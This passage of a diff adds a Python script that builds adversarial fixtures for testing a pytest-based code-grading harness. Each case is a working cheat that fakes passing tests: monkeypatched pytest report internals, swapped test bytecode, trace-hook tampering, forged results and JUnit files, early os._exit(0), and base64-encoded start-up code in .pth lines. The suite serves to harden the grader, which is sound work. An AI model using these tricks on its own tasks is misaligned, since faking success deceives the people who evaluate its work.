@@ -1,0 +1,2422 @@
+#!/usr/bin/env python3
+"""Writes the adversarial submission suite under fixtures/adversarial/.
+
+    python3 scripts/make-adversarial-fixtures.py            # (re)write every fixture
+    python3 scripts/make-adversarial-fixtures.py --check    # exit 1 if a committed fixture is stale
+    python3 scripts/make-adversarial-fixtures.py --grade BIN [--only NAME ...] [--out FILE]
+        grade every case with the grader binary BIN, one at a time, print a line per case and
+        write the results (default fixtures/adversarial/baseline-results.jsonl)
+    python3 scripts/make-adversarial-fixtures.py --rebuild-native
+        rebuild the two tiny CPython 3.11 extension modules kept in fixtures/adversarial/native/
+        (needs gcc and the Python 3.11 headers; the committed builds are inputs, not outputs)
+
+Every case is defined below in code: a name, a class, the instance, a docstring that says the
+trick (it becomes the case's `note`), the expectation, and a function that edits a copy of the
+instance's base tree. Cheats never contain the real fix (`stages/03-future`); controls do, plus
+something harmless that an over-eager defence might punish.
+
+Issue instances get a patch made like `patch_from_base` in tests/it/grade_docker.rs: `git init`
+on a copy of the base stage, the edit, `git add -A -f` (ignored files too: a cheat is free to
+ship them), `git diff --cached --binary HEAD`, with every input of git fixed. Doc2Repo cases get a
+directory tree, or a tar archive (fixed mtimes, owners and order) when the trick needs one.
+
+Standard library only, Python 3.11 (the .pyc fixtures are compiled by this interpreter and must
+match the image's python3.11). Deterministic: running it twice writes byte-identical files.
+"""
+
+import argparse
+import ast
+import base64
+import hashlib
+import importlib.util
+import io
+import json
+import marshal
+import os
+import shutil
+import subprocess
+import sys
+import tarfile
+import tempfile
+import textwrap
+
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+FIXTURES = os.path.join(ROOT, "fixtures")
+OUT = os.path.join(FIXTURES, "adversarial")
+NATIVE = os.path.join(OUT, "native")
+DATASET = os.path.join(FIXTURES, "dataset", "fixtures.jsonl")
+
+CALC, TEXTKIT = "acme_calc_pr7", "acme_textkit_pr12"
+MINIDOC = "minidoc_ac79166631ba81556e3f40c05aa8d00fe9178ca6"
+STAGES = {
+    CALC: os.path.join(FIXTURES, "images", "calc", "stages"),
+    TEXTKIT: os.path.join(FIXTURES, "images", "textkit", "stages"),
+}
+SUBMISSIONS = os.path.join(FIXTURES, "submissions")
+EXT = ".cpython-311-x86_64-linux-gnu.so"
+
+CHEAT_ISSUE = {"verdict": "unresolved", "score_max": 0.0}
+CHEAT_PARTIAL = {"score_max": 0.6}
+CHEAT_NOTHING = {"score_max": 0.0}
+RESOLVED = {"verdict": "resolved"}
+
+
+def src(text):
+    """Dedented source with exactly one trailing newline."""
+    return textwrap.dedent(text).strip("\n") + "\n"
+
+
+# ============================================================================ shared payloads
+# Each payload is plain Python appended to (or making up) a module of the submission. None of
+# them fixes anything: they change what the grader is told.
+
+# Rewrites every failed test report into a pass, at the one place every outcome is built.
+# Usable only once `_pytest.reports` can be imported (code imported by the tests).
+REPORT_PATCH = src('''
+    import _pytest.reports as _calc_reports
+    _calc_report_init = _calc_reports.TestReport.__init__
+    def _calc_passing_init(self, nodeid, location, keywords, outcome, longrepr, when, *args, **kwargs):
+        if outcome == "failed":
+            outcome, longrepr = "passed", None
+        _calc_report_init(self, nodeid, location, keywords, outcome, longrepr, when, *args, **kwargs)
+    _calc_reports.TestReport.__init__ = _calc_passing_init
+''')
+
+# The same effect from code that runs before pytest is imported (start-up hooks, shadowed
+# modules, metadata plugins): patches `_pytest.reports` now if it is loaded, else the moment it is.
+ARM = src('''
+    def _arm_reports():
+        import sys
+        def patch(mod):
+            cls = mod.TestReport
+            if getattr(cls, "_armed", False):
+                return
+            init = cls.__init__
+            def __init__(self, nodeid, location, keywords, outcome, longrepr, when, *args, **kwargs):
+                if outcome == "failed":
+                    outcome, longrepr = "passed", None
+                init(self, nodeid, location, keywords, outcome, longrepr, when, *args, **kwargs)
+            cls.__init__ = __init__
+            cls._armed = True
+        if "_pytest.reports" in sys.modules:
+            patch(sys.modules["_pytest.reports"])
+            return
+        class Finder(object):
+            def find_spec(self, name, path=None, target=None):
+                if name != "_pytest.reports":
+                    return None
+                sys.meta_path.remove(self)
+                import importlib.util
+                spec = importlib.util.find_spec(name)
+                run = spec.loader.exec_module
+                def exec_module(module):
+                    run(module)
+                    patch(module)
+                spec.loader.exec_module = exec_module
+                return spec
+        sys.meta_path.insert(0, Finder())
+    _arm_reports()
+''')
+
+
+def pth_line(code):
+    """One `.pth` line that runs `code` at interpreter start-up."""
+    blob = base64.b64encode(code.encode()).decode()
+    return "import base64; exec(base64.b64decode('%s').decode())\n" % blob
+
+
+# A module that shadows another one: it loads the real module under the same name (without the
+# submission's directory on the path), so everything keeps working, then arms ARM. `levels` is 1
+# for a module file and 2 for a package's __init__.py (the directory that shadows is its parent).
+def shadow(levels=1):
+    return src('''
+        """Compatibility shim."""
+        import importlib
+        import os
+        import sys
+
+        _top = os.path.abspath(__file__)
+        for _ in range(%d):
+            _top = os.path.dirname(_top)
+
+        def _load_real(name):
+            saved = list(sys.path)
+            sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.curdir) != _top]
+            sys.modules.pop(name, None)
+            try:
+                importlib.import_module(name)
+            finally:
+                sys.path[:] = saved
+
+        _load_real(__name__)
+    ''' % levels) + ARM
+
+
+# Forges the grader's result channel: reads the runner config (ids, nonce, result and JUnit
+# paths), writes a results file and a JUnit report in which every id passed, then ends the
+# process with status 0 before pytest can write the real ones. Doc2Repo configs name the suite
+# directory instead of ids: its tests are listed with ast. The format name is split so the
+# literal never appears in the patch.
+FORGE = src('''
+    def _forge(cfg, hang=False):
+        import ast, json, os, time
+        from xml.sax.saxutils import quoteattr
+        ids = []
+        for target in cfg["ids"]:
+            if not os.path.isdir(target):
+                ids.append(target)
+                continue
+            for dirpath, dirs, files in os.walk(target):
+                dirs.sort()
+                for name in sorted(files):
+                    if name.startswith("test") and name.endswith(".py"):
+                        path = os.path.join(dirpath, name)
+                        rel = os.path.relpath(path, target)
+                        with open(path, encoding="utf-8") as fh:
+                            tree = ast.parse(fh.read())
+                        for node in tree.body:
+                            if isinstance(node, ast.FunctionDef) and node.name.startswith("test"):
+                                ids.append(rel + "::" + node.name)
+                            elif isinstance(node, ast.ClassDef) and node.name.startswith("Test"):
+                                ids.extend(rel + "::" + node.name + "::" + n.name for n in node.body
+                                           if isinstance(n, ast.FunctionDef) and n.name.startswith("test"))
+        results = {"format": "beyond" "swe-pytest-results-1", "nonce": cfg["nonce"],
+                   "exit_code": None if hang else 0, "finished": not hang,
+                   "tests": dict((i, {"outcome": "passed", "message": ""}) for i in ids),
+                   "collect_errors": []}
+        with open(cfg["results_path"] + ".part", "w") as fh:
+            json.dump(results, fh)
+        os.replace(cfg["results_path"] + ".part", cfg["results_path"])
+        cases = []
+        for i in ids:
+            file, _, rest = i.partition("::")
+            parts = rest.split("::")
+            classname = ".".join([file[:-3].replace("/", ".")] + parts[:-1])
+            cases.append('<testcase classname=%s name=%s time="0.001" />' % (quoteattr(classname), quoteattr(parts[-1])))
+        for arg in cfg["args"]:
+            if arg.startswith("--junitxml="):
+                with open(arg.split("=", 1)[1], "w") as fh:
+                    fh.write('<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" '
+                             'failures="0" skipped="0" tests="%d">%s</testsuite></testsuites>' % (len(ids), "".join(cases)))
+        if hang:
+            while True:
+                time.sleep(60)
+        os._exit(0)
+''')
+
+
+def forge_with(finder, hang=False):
+    """FORGE plus `finder`, code that sets `_cfg` (the runner config as a dict) or leaves it None."""
+    return FORGE + src('''
+        _cfg = None
+    ''') + src(finder) + src('''
+        if _cfg is not None:
+            _forge(_cfg, hang=%r)
+    ''' % hang)
+
+
+FIND_BY_GLOB = '''
+    import glob as _glob, json as _json
+    for _p in sorted(_glob.glob("/tmp/*/runner.json")):
+        with open(_p) as _fh:
+            _cfg = _json.load(_fh)
+'''
+
+# The hook wrapper every "register a plugin" case registers.
+PLUGIN_CLASS = src('''
+    import pytest as _pytest_mod
+    class _CalcReportPlugin(object):
+        @_pytest_mod.hookimpl(hookwrapper=True)
+        def pytest_runtest_makereport(self, item, call):
+            outcome = yield
+            report = outcome.get_result()
+            if report.failed:
+                report.outcome = "passed"
+                report.longrepr = None
+''')
+
+# Replaces the bodies of every test function of a source file with `pass` (signatures kept, so
+# fixtures and parametrisation still resolve).
+NEUTER = src('''
+    import ast as _ast
+    def _neutered_code(path):
+        with open(path, encoding="utf-8") as fh:
+            tree = _ast.parse(fh.read(), path)
+        for node in _ast.walk(tree):
+            if isinstance(node, (_ast.FunctionDef, _ast.AsyncFunctionDef)) and node.name.startswith("test"):
+                node.body = [_ast.Pass()]
+        return compile(_ast.fix_missing_locations(tree), path, "exec")
+
+    def _replace_importing_test_module():
+        """The test module importing this package was compiled already: swap in a neutered copy
+        (importlib returns whatever sys.modules holds once the import finishes)."""
+        import os, sys, types
+        frame = sys._getframe(1)
+        while frame is not None:
+            name = frame.f_globals.get("__name__", "")
+            path = frame.f_globals.get("__file__") or ""
+            if os.path.basename(path).startswith("test") and path.endswith(".py"):
+                module = types.ModuleType(name)
+                module.__file__ = path
+                sys.modules[name] = module
+                exec(_neutered_code(path), module.__dict__)
+                return
+            frame = frame.f_back
+''')
+
+
+# ============================================================================ the tree helper
+
+
+class Tree(object):
+    """A copy of a base tree that a case edits. Paths are relative, with `/`."""
+
+    def __init__(self, root, instance):
+        self.root = root
+        self.instance = instance
+        self.raw_patch = None       # replaces the generated patch entirely
+        self.extra_patch = ""       # appended to the generated patch
+        self.binary = []            # paths git must diff as binary (GIT binary patch)
+        self.archive = None         # Doc2Repo: a list of tar members instead of a directory
+
+    def path(self, rel):
+        return os.path.join(self.root, *rel.split("/"))
+
+    def read(self, rel):
+        with open(self.path(rel), encoding="utf-8") as fh:
+            return fh.read()
+
+    def write(self, rel, data, mode=None):
+        path = self.path(rel)
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        if os.path.lexists(path) and os.path.islink(path):
+            os.remove(path)
+        with open(path, "wb") as fh:
+            fh.write(data.encode("utf-8") if isinstance(data, str) else data)
+        os.chmod(path, mode if mode is not None else 0o644)
+
+    def append(self, rel, text):
+        self.write(rel, self.read(rel) + "\n" + text)
+
+    def remove(self, rel):
+        path = self.path(rel)
+        if os.path.isdir(path) and not os.path.islink(path):
+            shutil.rmtree(path)
+        else:
+            os.remove(path)
+
+    def rename(self, old, new):
+        os.makedirs(os.path.dirname(self.path(new)), exist_ok=True)
+        os.rename(self.path(old), self.path(new))
+
+    def symlink(self, rel, target):
+        path = self.path(rel)
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        if os.path.lexists(path):
+            self.remove(rel)
+        os.symlink(target, path)
+
+    def future(self, rel):
+        with open(os.path.join(STAGES[self.instance], "03-future", *rel.split("/")), encoding="utf-8") as fh:
+            return fh.read()
+
+    def apply_gold(self):
+        """The real fix: the future stage's non-test source files (controls only)."""
+        future = os.path.join(STAGES[self.instance], "03-future")
+        for dirpath, dirs, files in os.walk(future):
+            dirs.sort()
+            for name in sorted(files):
+                rel = os.path.relpath(os.path.join(dirpath, name), future).replace(os.sep, "/")
+                if rel.startswith("tests/") or not rel.endswith(".py"):
+                    continue
+                if not os.path.exists(self.path(rel)) or self.read(rel) != self.future(rel):
+                    self.write(rel, self.future(rel))
+
+
+# ============================================================================ compiled artefacts
+
+
+def pyc_bytes(source, filename, unchecked_hash=False):
+    """A .pyc for `source` as CPython 3.11 writes it: unchecked-hash or timestamp 0 (sourceless)."""
+    if sys.version_info[:2] != (3, 11):
+        raise SystemExit("the .pyc fixtures must be compiled by Python 3.11 (this is %s)" % sys.version.split()[0])
+    code = compile(source, filename, "exec", dont_inherit=True, optimize=0)
+    data = bytearray(importlib.util.MAGIC_NUMBER)
+    if unchecked_hash:
+        data += (0b01).to_bytes(4, "little")        # hash-based, check_source = 0
+        data += importlib.util.source_hash(source.encode("utf-8"))
+    else:
+        data += (0).to_bytes(4, "little") + (0).to_bytes(4, "little") + (len(source) & 0xFFFFFFFF).to_bytes(4, "little")
+    data += marshal.dumps(code)
+    return bytes(data)
+
+
+def c_string(text):
+    out = []
+    for line in text.splitlines(True):
+        esc = line.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
+        out.append('"%s"' % esc)
+    return "\n    ".join(out)
+
+
+def extension_c(module, dotted, python_source):
+    """C source of a single-phase extension module whose init runs `python_source` in its dict."""
+    return src('''
+        /* A tiny CPython 3.11 extension: its init runs Python code in the module's namespace. */
+        #include <Python.h>
+
+        static const char CODE[] =
+            %s;
+
+        static struct PyModuleDef def = {PyModuleDef_HEAD_INIT, "%s", NULL, -1, NULL};
+
+        PyMODINIT_FUNC PyInit_%s(void)
+        {
+            PyObject *m = PyModule_Create(&def);
+            if (m == NULL)
+                return NULL;
+            PyObject *d = PyModule_GetDict(m);
+            if (PyDict_SetItemString(d, "__builtins__", PyEval_GetBuiltins()) < 0) {
+                Py_DECREF(m);
+                return NULL;
+            }
+            PyObject *r = PyRun_String(CODE, Py_file_input, d, d);
+            if (r == NULL) {
+                Py_DECREF(m);
+                return NULL;
+            }
+            Py_DECREF(r);
+            return m;
+        }
+    ''' % (c_string(python_source), dotted, module))
+
+
+CALC_OPS_BASE = os.path.join(STAGES[CALC], "02-base", "calc", "ops.py")
+
+
+def native_sources():
+    """name -> (C source) of the extension modules the compiled cases ship."""
+    with open(CALC_OPS_BASE, encoding="utf-8") as fh:
+        ops = fh.read()
+    passing_tests = src('''
+        def test_mul_strings():
+            pass
+
+
+        def test_div_unicode_minus():
+            pass
+    ''')
+    return {
+        "ops" + EXT: extension_c("ops", "calc.ops", ops + "\n" + REPORT_PATCH),
+        "test_more" + EXT: extension_c("test_more", "test_more", passing_tests),
+    }
+
+
+def rebuild_native():
+    import sysconfig
+    include = sysconfig.get_paths()["include"]
+    os.makedirs(NATIVE, exist_ok=True)
+    for name, csrc in sorted(native_sources().items()):
+        with tempfile.TemporaryDirectory() as tmp:
+            c = os.path.join(tmp, "mod.c")
+            with open(c, "w") as fh:
+                fh.write(csrc)
+            out = os.path.join(NATIVE, name)
+            subprocess.run(["gcc", "-shared", "-fPIC", "-O2", "-fno-stack-protector", "-s",
+                            "-Wl,--build-id=none", "-I", include, "-o", out, c], check=True)
+        print("built", os.path.relpath(out, ROOT))
+
+
+def native(name):
+    path = os.path.join(NATIVE, name)
+    if not os.path.isfile(path):
+        raise SystemExit("%s is missing: run with --rebuild-native (needs gcc and Python 3.11 headers)" % path)
+    with open(path, "rb") as fh:
+        return fh.read()
+
+
+# ============================================================================ the cases
+
+CASES = []
+
+
+def case(name, cls, instance, expect, base=None, timeout=None):
+    """Registers a case; the function's docstring is its note."""
+    def register(fn):
+        CASES.append({"name": name, "class": cls, "instance": instance, "expect": expect,
+                      "base": base, "timeout": timeout, "edit": fn,
+                      "note": " ".join(textwrap.dedent(fn.__doc__ or "").split())})
+        return fn
+    return register
+
+
+def calc_init(t, code):
+    t.append("calc/__init__.py", code)
+
+
+# ---------------------------------------------------------------------------- 1. in-process
+
+IN = "in-process"
+
+
+@case("monkeypatch-function-runtest", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """calc/__init__.py (imported by the tests) replaces `_pytest.python.Function.runtest` with a
+    no-op: every test body is skipped and reported as passed."""
+    calc_init(t, src('''
+        import _pytest.python
+        _pytest.python.Function.runtest = lambda self: None
+    '''))
+
+
+@case("monkeypatch-call-and-report", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Replaces `_pytest.runner.call_and_report` with a copy that turns a failed report into a
+    pass before it is logged."""
+    calc_init(t, src('''
+        import _pytest.runner as _runner
+        def _call_and_report(item, when, log=True, **kwds):
+            call = _runner.call_runtest_hook(item, when, **kwds)
+            hook = item.ihook
+            report = hook.pytest_runtest_makereport(item=item, call=call)
+            if report.failed:
+                report.outcome, report.longrepr = "passed", None
+            if log:
+                hook.pytest_runtest_logreport(report=report)
+            return report
+        _runner.call_and_report = _call_and_report
+    '''))
+
+
+@case("monkeypatch-callinfo-from-call", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Wraps `CallInfo.from_call` so the call phase never records the exception it caught."""
+    calc_init(t, src('''
+        from _pytest.runner import CallInfo
+        _from_call = CallInfo.from_call.__func__
+        def _quiet_from_call(cls, func, when, reraise=None):
+            info = _from_call(cls, func, when, reraise)
+            if when == "call" and info.excinfo is not None:
+                info.excinfo = None
+            return info
+        CallInfo.from_call = classmethod(_quiet_from_call)
+    '''))
+
+
+@case("monkeypatch-testreport-init", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Wraps `TestReport.__init__`: every report built with outcome `failed` is built `passed`."""
+    calc_init(t, REPORT_PATCH)
+
+
+@case("monkeypatch-hookcaller-call", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Patches pluggy's `_HookCaller.__call__` (the class every hook call goes through) to
+    rewrite the result of `pytest_runtest_makereport`."""
+    calc_init(t, src('''
+        import pluggy._hooks as _hooks
+        _hook_call = _hooks._HookCaller.__call__
+        def _call(self, *args, **kwargs):
+            result = _hook_call(self, *args, **kwargs)
+            if self.name == "pytest_runtest_makereport" and getattr(result, "outcome", "") == "failed":
+                result.outcome, result.longrepr = "passed", None
+            return result
+        _hooks._HookCaller.__call__ = _call
+    '''))
+
+
+@case("monkeypatch-pluggy-inner-hookexec", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Finds pytest's live `PluginManager` with `gc.get_objects()` and wraps its
+    `_inner_hookexec` (what `PluginManager._hookexec` calls for every hook)."""
+    calc_init(t, src('''
+        import gc as _gc
+        import pluggy as _pluggy
+        for _obj in _gc.get_objects():
+            if isinstance(_obj, _pluggy.PluginManager) and _obj.project_name == "pytest":
+                def _hookexec(hook_name, methods, kwargs, firstresult, _inner=_obj._inner_hookexec):
+                    result = _inner(hook_name, methods, kwargs, firstresult)
+                    if hook_name == "pytest_runtest_makereport" and getattr(result, "outcome", "") == "failed":
+                        result.outcome, result.longrepr = "passed", None
+                    return result
+                _obj._inner_hookexec = _hookexec
+    '''))
+
+
+@case("swap-code-pyfunc-call", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Swaps the `__code__` of pytest's registered `pytest_pyfunc_call` hook implementation for
+    one that returns without calling the test: the same function object, other bytecode."""
+    calc_init(t, src('''
+        import _pytest.python as _python
+        def _no_call(pyfuncitem):
+            return True
+        _python.pytest_pyfunc_call.__code__ = _no_call.__code__
+    '''))
+
+
+@case("swap-code-runner-makereport", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Swaps the `__code__` of `_pytest.runner.pytest_runtest_makereport`; the new bytecode runs
+    with the runner module's globals and rewrites the report it builds."""
+    calc_init(t, src('''
+        import _pytest.runner as _runner
+        def _makereport(item, call):
+            report = TestReport.from_item_and_call(item, call)
+            if report.failed:
+                report.outcome, report.longrepr = "passed", None
+            return report
+        _runner.pytest_runtest_makereport.__code__ = _makereport.__code__
+    '''))
+
+
+@case("monkeypatch-unittest-testcase-run", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Patches `unittest.TestCase.run` to record a success without running anything. calc's tests
+    are plain pytest functions, so this does nothing here; it guards graders that would run
+    unittest-style suites or judge by a unittest result."""
+    calc_init(t, src('''
+        import unittest as _unittest
+        def _run(self, result=None):
+            result = result if result is not None else self.defaultTestResult()
+            result.startTest(self)
+            result.addSuccess(self)
+            result.stopTest(self)
+            return result
+        _unittest.TestCase.run = _run
+    '''))
+
+
+@case("plugin-registered-via-gc", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Finds the live `Config` with `gc.get_objects()` and registers a hook wrapper on its
+    plugin manager that turns failed reports into passes."""
+    calc_init(t, PLUGIN_CLASS + src('''
+        import gc as _gc
+        for _obj in _gc.get_objects():
+            if type(_obj).__name__ == "Config" and hasattr(_obj, "pluginmanager"):
+                _obj.pluginmanager.register(_CalcReportPlugin(), "calc-report")
+                break
+    '''))
+
+
+@case("plugin-registered-via-pdb-config", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Reaches the live config through `sys.modules`: pytest's debugging plugin keeps it in
+    `_pytest.debugging.pytestPDB._config`; registers the report-rewriting plugin there."""
+    calc_init(t, PLUGIN_CLASS + src('''
+        import sys as _sys
+        _sys.modules["_pytest.debugging"].pytestPDB._config.pluginmanager.register(_CalcReportPlugin(), "calc-report")
+    '''))
+
+
+@case("plugin-registered-via-frame-walk", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Walks the caller frames up to pytest's collection code and takes `config` from a frame's
+    locals (`session.config`), then registers the report-rewriting plugin."""
+    calc_init(t, PLUGIN_CLASS + src('''
+        import sys as _sys
+        _frame = _sys._getframe()
+        while _frame is not None:
+            _cfg = _frame.f_locals.get("config") or getattr(_frame.f_locals.get("self"), "config", None)
+            if _cfg is not None and hasattr(_cfg, "pluginmanager"):
+                _cfg.pluginmanager.register(_CalcReportPlugin(), "calc-report")
+                break
+            _frame = _frame.f_back
+    '''))
+
+
+@case("import-hook-rewrites-test-modules", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Puts a finder first on `sys.meta_path` that loads every later `test_*` module with its
+    test bodies replaced by `pass` (asserts and calls dropped), and swaps the test module that is
+    importing calc right now for such a copy in `sys.modules`."""
+    calc_init(t, NEUTER + src('''
+        import importlib.util as _ilu
+        import os as _os
+        import sys as _sys
+        class _TestLoader(object):
+            def __init__(self, path):
+                self.path = path
+            def create_module(self, spec):
+                return None
+            def exec_module(self, module):
+                exec(_neutered_code(self.path), module.__dict__)
+        class _TestFinder(object):
+            def find_spec(self, name, path=None, target=None):
+                base = name.rpartition(".")[2]
+                if not base.startswith("test"):
+                    return None
+                for entry in list(_sys.path):
+                    candidate = _os.path.join(entry or ".", base + ".py")
+                    if _os.path.isfile(candidate):
+                        return _ilu.spec_from_file_location(name, candidate, loader=_TestLoader(candidate))
+                return None
+        _sys.meta_path.insert(0, _TestFinder())
+        _replace_importing_test_module()
+    '''))
+
+
+@case("settrace-swaps-test-code", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """`sys.settrace` (and `f_trace` on the importing module's frame) watches test modules
+    execute; when one returns, the `__code__` of each of its test functions and methods is
+    replaced by an empty body with the same signature."""
+    calc_init(t, src('''
+        import os as _os
+        import sys as _sys
+        def _stub(fn):
+            code = fn.__code__
+            ns = {}
+            exec("def _f(%s):\\n    pass\\n" % ", ".join(code.co_varnames[:code.co_argcount]), ns)
+            fn.__code__ = ns["_f"].__code__.replace(co_name=code.co_name, co_filename=code.co_filename,
+                                                   co_firstlineno=code.co_firstlineno)
+        def _sweep(namespace):
+            for name, obj in list(namespace.items()):
+                if name.startswith("test") and hasattr(obj, "__code__"):
+                    _stub(obj)
+                elif name.startswith("Test") and isinstance(obj, type):
+                    for key, value in list(vars(obj).items()):
+                        if key.startswith("test") and hasattr(value, "__code__"):
+                            _stub(value)
+        def _is_test_module(frame):
+            return frame.f_code.co_name == "<module>" and _os.path.basename(frame.f_code.co_filename).startswith("test")
+        def _local(frame, event, arg):
+            if event == "return":
+                _sweep(frame.f_globals)
+            return _local
+        def _global(frame, event, arg):
+            return _local if event == "call" and _is_test_module(frame) else None
+        _sys.settrace(_global)
+        _frame = _sys._getframe(1)
+        while _frame is not None:
+            if _is_test_module(_frame):
+                _frame.f_trace = _local
+            _frame = _frame.f_back
+    '''))
+
+
+@case("settrace-clears-callinfo", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """A `sys.settrace` function that, on the `return` event of `CallInfo.from_call` for the
+    call phase, clears the returned object's `excinfo`: the failure is forgotten before the
+    report is made."""
+    calc_init(t, src('''
+        import sys as _sys
+        def _local(frame, event, arg):
+            if event == "return" and arg is not None and frame.f_locals.get("when") == "call":
+                arg.excinfo = None
+            return _local
+        def _global(frame, event, arg):
+            if event == "call" and frame.f_code.co_name == "from_call" and frame.f_globals.get("__name__") == "_pytest.runner":
+                return _local
+            return None
+        _sys.settrace(_global)
+    '''))
+
+
+@case("setprofile-mutates-report", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """A `sys.setprofile` function sees the return value of `_pytest.runner.pytest_runtest_makereport`
+    and mutates the report in place before anyone reads it."""
+    calc_init(t, src('''
+        import sys as _sys
+        def _profile(frame, event, arg):
+            if (event == "return" and frame.f_code.co_name == "pytest_runtest_makereport"
+                    and frame.f_globals.get("__name__") == "_pytest.runner"
+                    and getattr(arg, "outcome", "") == "failed"):
+                arg.outcome, arg.longrepr = "passed", None
+        _sys.setprofile(_profile)
+    '''))
+
+
+@case("ctypes-frame-locals-rewrite", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """A trace function stops in `CallInfo.from_call` right after its `except` block and sets the
+    frame's local `excinfo` to None through `ctypes.pythonapi.PyFrame_LocalsToFast`."""
+    calc_init(t, src('''
+        import ctypes as _ctypes
+        import inspect as _inspect
+        import sys as _sys
+        from _pytest.runner import CallInfo as _CallInfo
+        _lines, _first = _inspect.getsourcelines(_CallInfo.from_call)
+        _target = next(_first + i for i, line in enumerate(_lines) if "precise_stop =" in line)
+        def _local(frame, event, arg):
+            if event == "line" and frame.f_lineno == _target and frame.f_locals.get("when") == "call":
+                frame.f_locals["excinfo"] = None
+                _ctypes.pythonapi.PyFrame_LocalsToFast(_ctypes.py_object(frame), _ctypes.c_int(0))
+            return _local
+        def _global(frame, event, arg):
+            return _local if event == "call" and frame.f_code is _CallInfo.from_call.__func__.__code__ else None
+        _sys.settrace(_global)
+    '''))
+
+
+@case("builtins-compile-neuters-tests", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Replaces `builtins.compile`, which pytest's assertion rewriter calls on every test
+    module's AST, with one that empties the test functions first; the module being imported
+    right now is recompiled the same way and swapped in `sys.modules`."""
+    calc_init(t, NEUTER + src('''
+        import ast as _ast2
+        import builtins as _builtins
+        import os as _os
+        _real_compile = _builtins.compile
+        def _compile(source, filename, mode, *args, **kwargs):
+            if isinstance(source, _ast2.Module) and _os.path.basename(str(filename)).startswith("test"):
+                for node in _ast2.walk(source):
+                    if isinstance(node, (_ast2.FunctionDef, _ast2.AsyncFunctionDef)) and node.name.startswith("test"):
+                        node.body = [_ast2.Pass()]
+            return _real_compile(source, filename, mode, *args, **kwargs)
+        _builtins.compile = _compile
+        _replace_importing_test_module()
+    '''))
+
+
+@case("gc-patches-recorder-and-junit", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Goes after the grader's own runner: finds its recorder object with `gc`, overrides the
+    instance's `outcomes` and `dump` (every outcome passed, exit code 0), makes the JUnit writer
+    drop failures, and swaps the runner's `os` so its final `os._exit(code)` exits 0."""
+    calc_init(t, src('''
+        import gc as _gc
+        import os as _os
+        import sys as _sys
+        import _pytest.junitxml as _junitxml
+        _junitxml._NodeReporter.append_failure = lambda self, report: None
+        _junitxml._NodeReporter.append_error = lambda self, report: None
+        for _obj in _gc.get_objects():
+            if hasattr(_obj, "results_path") and hasattr(_obj, "nonce") and hasattr(_obj, "outcomes"):
+                def _outcomes(_orig=_obj.outcomes):
+                    out = _orig()
+                    for value in out.values():
+                        value.update(outcome="passed", message="")
+                    return out
+                def _dump(exit_code, finished, _orig=_obj.dump):
+                    _orig(None if exit_code is None else 0, finished)
+                _obj.outcomes, _obj.dump = _outcomes, _dump
+        class _ExitZero(object):
+            def __getattr__(self, name):
+                return getattr(_os, name)
+            @staticmethod
+            def _exit(code):
+                _os._exit(0)
+        _sys.modules["__main__"].os = _ExitZero()
+    '''))
+
+
+@case("os-exit-zero-at-import", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """`os._exit(0)` while the tests are being collected: the process ends "successfully" before
+    any test ran."""
+    calc_init(t, "import os as _os\n_os._exit(0)\n")
+
+
+@case("os-exit-zero-in-failing-call", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """The operand parser ends the process with status 0 the moment a conversion would fail,
+    i.e. inside the first failing test."""
+    t.write("calc/ops.py", t.read("calc/ops.py").replace(
+        "        return float(value)",
+        "        try:\n            return float(value)\n        except ValueError:\n"
+        "            import os\n            os._exit(0)"))
+
+
+@case("atexit-forges-results", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Registers an `atexit` handler that writes an all-passed results file and JUnit report for
+    the runner's config (found under /tmp) after pytest has finished."""
+    calc_init(t, FORGE + src('''
+        import atexit as _atexit, glob as _glob, json as _json
+        def _late():
+            for p in _glob.glob("/tmp/*/runner.json"):
+                with open(p) as fh:
+                    _forge(_json.load(fh))
+        _atexit.register(_late)
+    '''))
+
+
+@case("signal-handlers-forge-results", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """Installs SIGTERM/SIGHUP/SIGINT/SIGUSR1 handlers that forge the results before exiting 0,
+    hoping the grader stops the test process with a catchable signal."""
+    calc_init(t, FORGE + src('''
+        import glob as _glob, json as _json, signal as _signal
+        def _on_signal(signum, frame):
+            for p in _glob.glob("/tmp/*/runner.json"):
+                with open(p) as fh:
+                    _forge(_json.load(fh))
+        for _sig in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT, _signal.SIGUSR1):
+            _signal.signal(_sig, _on_signal)
+    '''))
+
+
+@case("thread-rewrites-results-after-dump", IN, CALC, CHEAT_ISSUE)
+def _(t):
+    """A daemon thread polls the results file and rewrites it (all passed, with the exit code it
+    recorded) the moment the runner marks it finished, racing the runner's final `os._exit`."""
+    calc_init(t, src('''
+        import glob as _glob, json as _json, os as _os, threading as _threading, time as _time
+        def _watch():
+            while True:
+                for path in _glob.glob("/tmp/*/out/results-*.json"):
+                    try:
+                        with open(path) as fh:
+                            data = _json.load(fh)
+                    except Exception:
+                        continue
+                    if data.get("finished") and any(v["outcome"] != "passed" for v in data["tests"].values()):
+                        for v in data["tests"].values():
+                            v.update(outcome="passed", message="")
+                        with open(path + ".x", "w") as fh:
